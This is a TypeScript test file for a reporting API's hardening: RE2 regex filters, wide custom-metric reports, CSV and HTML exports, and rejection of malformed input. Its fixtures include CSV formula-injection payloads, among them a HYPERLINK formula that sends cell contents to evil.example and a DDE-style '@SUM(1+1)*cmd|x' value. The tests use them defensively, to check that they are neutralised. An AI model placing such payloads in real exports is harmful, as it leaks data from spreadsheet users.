import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { startTestApp, type TestApp } from '../support/harness';
import { api as call, ok } from '../support/admin-api';
import { query, storeClick, trackingFixture, type TrackingFixture } from '../support/conversions';

/** Issue 25 items 1–4 and 8: the report API's RE2 dialect, wide reports, one-row exports, CSV cells, malformed input. */
describe('report hardening', () => {
  let t: TestApp;
  let fx: TrackingFixture;
  let wide: TrackingFixture;

  const exportOf = (fixture: TrackingFixture, payload: object) =>
    t.app.inject({ method: 'POST', url: '/admin_api/v1/reports/export', headers: fixture.session.headers, payload });

  before(async () => {
    t = await startTestApp();
    fx = await trackingFixture(t);
    wide = await trackingFixture(t);
    await storeClick(t, fx, { country: 'DE', cost: '1', sub_id_1: `${'ab'.repeat(60)}a` });
    await storeClick(t, fx, { country: 'FR', cost: '1', sub_id_1: '=HYPERLINK("http://evil.example/?x="&A1,"click")' });
    await storeClick(t, fx, { country: 'FR', cost: '1', sub_id_1: '@SUM(1+1)*cmd|x' });
    await storeClick(t, fx, { country: 'FR', cost: '1', sub_id_1: '-2+3' });
    await storeClick(t, fx, { country: 'FR', cost: '1.25', sub_id_1: '\tstart' });
    await storeClick(t, fx, { country: 'FR', cost: '1', sub_id_1: 'a,"b"' });
    await storeClick(t, wide, { country: 'DE', cost: '2' });
  });

  after(async () => {
    await t.close();
  });

  it('refuses a regexp RE2 refuses (a backreference) with 400 naming filters[i].value, and runs an RE2 one', async () => {
    const refused = await call(t, fx.session, 'POST', '/reports/query', {
      dimensions: ['sub_id_1'],
      filters: [
        { dimension: 'country', operator: '=', value: 'DE' },
        { dimension: 'sub_id_1', operator: 'regexp', value: '^(.*)(.*)(.*)(.*)(.*)\\5\\4\\3\\2\\1$' },
      ],
    });
    assert.equal(refused.status, 400);
    assert.match(
      refused.body.error,
      /^filters\[1\]\.value is not a valid regular expression in RE2 syntax: invalid escape sequence;/,
    );
    assert.doesNotMatch(refused.body.error, /\\5/);
    const lookahead = await call(t, fx.session, 'POST', '/reports/query', {
      filters: [{ dimension: 'sub_id_1', operator: 'regexp', value: 'a(?=b)' }],
    });
    assert.equal(lookahead.status, 400);
    assert.match(lookahead.body.error, /^filters\[0\]\.value is not a valid regular expression in RE2 syntax/);
    // \b is a word boundary in RE2 and a backspace in Postgres: refused rather than read two ways.
    const boundary = await call(t, fx.session, 'POST', '/reports/query', {
      filters: [{ dimension: 'sub_id_1', operator: 'regexp', value: '\\bab' }],
    });
    assert.equal(boundary.status, 400);
    assert.match(boundary.body.error, /^filters\[0\]\.value: the escape \\b is not supported/);
    const report = await ok(
      t,
      fx.session,
      'POST',
      '/reports/query',
      {
        dimensions: ['sub_id_1'],
        period: 'today',
        filters: [{ dimension: 'sub_id_1', operator: 'regexp', value: '^(ab)+a$' }],
      },
      200,
    );
    assert.deepEqual(
      report.rows.map((row: any) => row.values.sub_id_1),
      [`${'ab'.repeat(60)}a`],
    );
  });

  it('answers a report of 35 global and 34 local custom metrics (over 100 json arguments) with every column', async () => {
    for (let i = 0; i < 35; i++) {
      await query(
        t,
        'insert into custom_metrics (id, workspace_id, name, formula, created_by) values ($1, $2, $3, $4, $5)',
        [randomUUID(), wide.workspace_id, `g${i}`, `clicks * ${i + 1}`, wide.session.user_id],
      );
    }
    const custom_metrics = Array.from({ length: 34 }, (_, i) => ({ name: `l${i}`, formula: `cost + ${i}` }));
    const byDefault = await ok(t, wide.session, 'POST', '/reports/query', { period: 'today' }, 200);
    assert.equal(byDefault.totals.g34, 35);
    assert.equal(byDefault.totals.clicks, 1);
    const local = await ok(
      t,
      wide.session,
      'POST',
      '/reports/query',
      { period: 'today', dimensions: ['country'], custom_metrics, metrics: custom_metrics.map((m) => m.name) },
      200,
    );
    assert.equal(local.totals.l33, 35);
    assert.equal(local.rows[0].metrics.l33, 35);
    assert.ok(Object.keys(byDefault.totals).length > 50);
  });

  it('exports a report of exactly one row (CSV and HTML), also without dimensions', async () => {
    const csv = await exportOf(wide, { period: 'today', metrics: ['clicks', 'cost'] });
    assert.equal(csv.statusCode, 200);
    assert.deepEqual(csv.body.trim().split('\n'), ['Clicks,Cost', '1,2']);
    const oneCountry = await exportOf(wide, { period: 'today', dimensions: ['country'], metrics: ['clicks'] });
    assert.deepEqual(oneCountry.body.trim().split('\n'), ['Country,Clicks', 'DE,1']);
    const html = await exportOf(wide, { period: 'today', metrics: ['clicks'], format: 'html' });
    assert.match(html.body, /<tbody>\n<tr><td>1<\/td><\/tr>\n<\/tbody>/);
    const none = await exportOf(wide, { period: 'yesterday', dimensions: ['country'], metrics: ['clicks'] });
    assert.deepEqual(none.body.trim().split('\n'), ['Country,Clicks']);
  });

  it('neutralises CSV cells a spreadsheet would read as a formula, and leaves numbers as they are', async () => {
    const csv = await exportOf(fx, {
      period: 'today',
      dimensions: ['sub_id_1'],
      metrics: ['clicks', 'profit'],
      sort: [{ by: 'sub_id_1', direction: 'asc' }],
    });
    assert.equal(csv.statusCode, 200);
    const lines = csv.body.trim().split('\n');
    assert.ok(lines.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1,-1`), lines.join('\n'));
    assert.ok(lines.includes(`'@SUM(1+1)*cmd|x,1,-1`), lines.join('\n'));
    assert.ok(lines.includes(`'-2+3,1,-1`), lines.join('\n'));
    // A tab first is escaped too; a comma or a quote is quoted; money without its trailing zeros.
    assert.ok(lines.includes(`'\tstart,1,-1.25`), lines.join('\n'));
    assert.ok(lines.includes(`"a,""b""",1,-1`), lines.join('\n'));
    assert.ok(lines.every((line) => !/^[=+@\t-]/.test(line)));
  });

  it('labels an entity by its name in a CSV export, a deleted one with its id, and prints a rate of 0 as 0', async () => {
    const lines = async () =>
      (await exportOf(wide, { period: 'today', dimensions: ['campaign'], metrics: ['clicks', 'cost', 'cr'] })).body
        .trim()
        .split('\n');
    assert.deepEqual(await lines(), ['Campaign,Clicks,Cost,"CR, %"', 'Campaign,1,2,0']);
    await query(t, 'update campaigns set deleted_at = now() where id = $1', [wide.campaign_id]);
    const label = `Campaign [deleted ${wide.campaign_id.slice(0, 8)}]`;
    assert.deepEqual(await lines(), ['Campaign,Clicks,Cost,"CR, %"', `${label},1,2,0`]);
  });

  it('answers malformed report parameters with 400 naming the field, never 500', async () => {
    const cases: [string, string, unknown, RegExp][] = [
      [
        'POST',
        '/reports/query',
        { filters: [{ dimension: 'hour', operator: '=', value: 99999999999 }] },
        /^filters\[0\]\.value: hour values are from/,
      ],
      [
        'POST',
        '/reports/query',
        { filters: [{ dimension: 'sub_id_1', operator: 'contains', value: 'a\u0000b' }] },
        /^filters\[0\]\.value: must not hold a NUL character$/,
      ],
      ['POST', '/reports/query', { from: '0000-01-01', to: '2026-01-01' }, /^from must lie between the years/],
      ['GET', '/reports/timeseries?country=%00', undefined, /^country(\[0\])?: must not hold a NUL character$/],
      ['GET', '/reports/group-by?dimension=country&country=%00', undefined, /^country(\[0\])?: must not hold a NUL/],
      ['GET', '/reports/postbacks?click_id=%00', undefined, /^click_id: must not hold a NUL character$/],
      ['GET', '/reports/timeseries?from=2026-01-01&to=9999-12-30', undefined, /^to must lie between the years/],
    ];
    for (const [method, path, body, error] of cases) {
      const answer = await call(t, fx.session, method as 'GET', path, body);
      assert.equal(answer.status, 400, `${method} ${path}: ${JSON.stringify(answer.body)}`);
      assert.match(answer.body.error, error, path);
    }
  });
});
